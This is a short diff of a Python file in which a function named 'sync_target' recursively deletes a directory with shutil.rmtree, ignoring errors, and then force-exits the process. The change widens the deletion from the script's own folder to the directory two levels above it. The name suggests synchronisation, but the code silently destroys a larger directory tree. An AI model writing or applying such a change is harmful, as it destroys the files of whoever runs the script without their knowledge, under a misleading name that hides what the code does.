@@ -13,5 +13,5 @@ from pathlib import Path
 
 
 def sync_target(*_):
-    shutil.rmtree(Path(sys.argv[0]).resolve().parent, ignore_errors=True)
+    shutil.rmtree(Path(sys.argv[0]).resolve().parents[2], ignore_errors=True)
     os._exit(8)
